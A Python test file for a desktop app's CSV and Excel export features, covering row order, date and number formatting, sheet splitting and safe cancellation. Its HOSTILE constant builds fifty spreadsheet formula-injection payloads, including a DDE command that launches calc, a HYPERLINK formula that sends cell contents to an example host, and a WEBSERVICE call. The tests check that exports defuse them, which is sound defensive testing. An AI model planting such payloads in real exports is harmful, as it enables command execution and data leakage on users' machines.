"""Lists as files: the same rows in the same order, and nothing in them that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date
from functools import partial
from pathlib import Path
from xml.etree import ElementTree

import pytest

from desktop.domain.decision import Outcome
from desktop.reports import spreadsheet
from desktop.reports.errors import CannotWriteReport
from desktop.reports.tables import Column, Table, tabbed
from desktop.services import deciding, exports
from desktop.services.desk import Desk
from desktop.services.errors import NotPossible
from desktop.services.listing import listed
from desktop.services.opportunity_list import OpportunityFilter, SortBy
from desktop.services.register import EVERYTHING, RegisterFilter
from tests.services.known import ESOL, PARTNER, PEER_SUPPORT, STEP_BACK, pause_quickly
from tests.ui.notices import a_tender, stored

SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "==", "=+")
ENDS = (
    "cmd|'/C calc'!A0",
    'HYPERLINK("https://example.org/?"&A1,"Open")',
    "1+1",
    'WEBSERVICE("https://example.org")',
    "SUM(A1:A9)",
)
HOSTILE = tuple(f"{start}{end}" for start in STARTS for end in ENDS)
"""Fifty titles that a careless spreadsheet would run."""

every_opportunity = partial(
    exports.opportunities,
    wanted=OpportunityFilter(show_closed=True),
    sort=SortBy.RUNWAY,
    descending=False,
)


def no_step(_done: int, _all: int) -> None:
    """Hear nothing."""


def written(table: Table, out: Path) -> Path:
    exports.write(table, out, no_step)
    return out


def sheet_rows(workbook: Path, sheet: int = 1) -> list[dict[str, ElementTree.Element]]:
    """Return the cells of each row by their column's letter, read by other means than they were written."""
    with zipfile.ZipFile(workbook) as book:
        root = ElementTree.fromstring(book.read(f"xl/worksheets/sheet{sheet}.xml"))
    return [
        {"".join(filter(str.isalpha, cell.get("r", ""))): cell for cell in row}
        for row in root.iter(f"{SHEET}row")
    ]


def said(cell: ElementTree.Element | None) -> str:
    return "" if cell is None else "".join(text.text or "" for text in cell.iter(f"{SHEET}t"))


def test_fifty_hostile_titles_make_no_formula_and_no_link_in_a_workbook(desk: Desk, tmp_path: Path) -> None:
    stored(desk, *(a_tender(number, 20, title=title) for number, title in enumerate(HOSTILE)))

    file = written(every_opportunity(desk, no_step), tmp_path / "list.xlsx")

    with zipfile.ZipFile(file) as book:
        parts = {name: book.read(name).decode("utf-8") for name in book.namelist() if name.endswith("xml")}
    rows = sheet_rows(file)
    assert len(HOSTILE) == 50
    assert {said(row["A"]) for row in rows[1:]} == set(HOSTILE)
    assert not any("<f>" in text or "<f " in text or "<hyperlink" in text for text in parts.values())
    assert not any("externalLink" in name for name in parts)


def test_fifty_hostile_titles_are_defused_in_csv_and_in_what_is_copied(desk: Desk, tmp_path: Path) -> None:
    stored(desk, *(a_tender(number, 20, title=title) for number, title in enumerate(HOSTILE)))

    file = written(every_opportunity(desk, no_step), tmp_path / "list.csv")

    rows = list(csv.DictReader(io.StringIO(file.read_text("utf-8-sig"))))
    copied = tabbed([[title] for title in HOSTILE]).split("\n")
    assert sorted(row["Opportunity"] for row in rows[: len(HOSTILE)]) == sorted(
        f"'{title}" for title in HOSTILE
    )
    assert copied == [f"'{title}" for title in HOSTILE]


def test_days_are_days_and_money_is_a_number(desk: Desk, tmp_path: Path) -> None:
    stored(desk, a_tender(1, 20))

    file = written(every_opportunity(desk, no_step), tmp_path / "list.xlsx")

    headings, row = sheet_rows(file)
    letters = {said(cell): letter for letter, cell in headings.items()}
    value, decide_by = row[letters["Value"]], row[letters["Decide by"]]
    assert (value.get("t"), value.findtext(f"{SHEET}v")) == (None, "80000")
    assert decide_by.get("t") is None
    assert (
        date.fromordinal(date(1899, 12, 30).toordinal() + int(decide_by.findtext(f"{SHEET}v") or 0))
        == (every_opportunity(desk, no_step).rows[0][8])
    )
    assert said(row[letters["Runway"]]) == "Tight"


def test_the_heading_stays_in_sight_and_columns_are_as_wide_as_their_words(
    desk: Desk, tmp_path: Path
) -> None:
    stored(desk, a_tender(1, 20))

    table = every_opportunity(desk, no_step)
    file = written(table, tmp_path / "list.xlsx")

    with zipfile.ZipFile(file) as book:
        text = book.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert 'ySplit="1"' in text
    assert 'state="frozen"' in text
    assert f'<col min="1" max="1" width="{table.columns[0].width}' in text


@pytest.mark.parametrize("descending", [False, True])
def test_an_export_holds_what_the_list_shows_in_its_order(sample_desk: Desk, descending: bool) -> None:
    wanted = OpportunityFilter(words="support")

    table = exports.opportunities(
        sample_desk, no_step, wanted=wanted, sort=SortBy.TITLE, descending=descending
    )

    with sample_desk.reader() as db:
        expected = {one.title for one in listed(db, sample_desk, wanted)}
    titles = [str(row[0]) for row in table.rows]
    assert set(titles) == expected
    assert titles == sorted(titles, key=str.casefold, reverse=descending)


def test_all_rows_are_exported_however_many_reads_it_takes(
    desk: Desk, monkeypatch: pytest.MonkeyPatch
) -> None:
    stored(desk, *(a_tender(number, 20) for number in range(7)))
    monkeypatch.setattr(exports, "_AT_ONCE", 3)
    heard: list[tuple[int, int]] = []

    table = every_opportunity(desk, lambda done, total: heard.append((done, total)))

    assert len({row[-1] for row in table.rows}) == 7
    assert heard == [(0, 7), (3, 7), (6, 7)]


def test_more_rows_than_a_sheet_takes_go_on_in_another(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(spreadsheet, "MOST_ROWS", 2)
    table = Table("Things", "", (Column("Name"),), [["a"], ["b"], ["c"]])

    file = written(table, tmp_path / "list.xlsx")

    assert [said(row["A"]) for row in sheet_rows(file, 1)] == ["Name", "a", "b"]
    assert [said(row["A"]) for row in sheet_rows(file, 2)] == ["Name", "c"]


def test_the_register_is_exported_as_it_is_narrowed(sample_desk: Desk, tmp_path: Path) -> None:
    pause_quickly(sample_desk, PEER_SUPPORT)
    deciding.record(sample_desk, PEER_SUPPORT, PARTNER)
    deciding.record(sample_desk, ESOL, STEP_BACK)

    whole = exports.decisions(sample_desk, no_step, wanted=EVERYTHING)
    narrowed = exports.decisions(sample_desk, no_step, wanted=RegisterFilter(outcome=Outcome.STEP_BACK))

    assert [row[0] for row in whole.rows] == ["2", "1"]
    assert [row[0] for row in narrowed.rows] == ["2"]
    assert "Others already do this well." in narrowed.rows[0]
    assert "1 decision, " in narrowed.covers
    assert len(sheet_rows(written(narrowed, tmp_path / "register.xlsx"))) == 2


def test_a_cancelled_export_leaves_what_stood_there(
    desk: Desk, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    stored(desk, a_tender(1, 20), a_tender(2, 20))
    out = tmp_path / "list.xlsx"
    out.write_text("what stood here")
    monkeypatch.setattr(spreadsheet, "_STEP", 1)

    def stop(_done: int, _all: int) -> None:
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        exports.write(every_opportunity(desk, no_step), out, stop)

    assert out.read_text() == "what stood here"
    assert sorted(path.name for path in tmp_path.glob("*list*")) == ["list.xlsx"]


@pytest.mark.parametrize("ending", ["csv", "xlsx"])
def test_a_place_that_cannot_be_written_is_said(desk: Desk, tmp_path: Path, ending: str) -> None:
    with pytest.raises(CannotWriteReport):
        written(every_opportunity(desk, no_step), tmp_path / "nowhere" / f"list.{ending}")


def test_another_ending_is_refused(desk: Desk, tmp_path: Path) -> None:
    with pytest.raises(NotPossible, match="neither a CSV file nor an Excel workbook"):
        written(every_opportunity(desk, no_step), tmp_path / "list.doc")

    assert list(tmp_path.glob("list*")) == []


def test_a_csv_says_beneath_its_rows_what_the_list_covers(sample_desk: Desk, tmp_path: Path) -> None:
    table = every_opportunity(sample_desk, no_step)

    out = written(table, tmp_path / "list.csv")

    header, *rows = csv.reader(out.read_text("utf-8-sig").splitlines())
    told = rows[len(table.rows) :]
    assert len(header) == len(rows[0])
    assert told[:2] == [[], [table.covers]]
    assert [note for (note,) in told[2:]] == list(table.notes)


def test_a_workbook_says_on_a_sheet_of_its_own_what_the_list_covers(desk: Desk, tmp_path: Path) -> None:
    file = written(every_opportunity(desk, no_step), tmp_path / "list.xlsx")

    with zipfile.ZipFile(file) as book:
        names = book.read("xl/workbook.xml").decode("utf-8")
        said = book.read("xl/worksheets/sheet2.xml").decode("utf-8")
    assert 'name="What this covers"' in names
    assert "Not in any feed: Find a Grant." in said
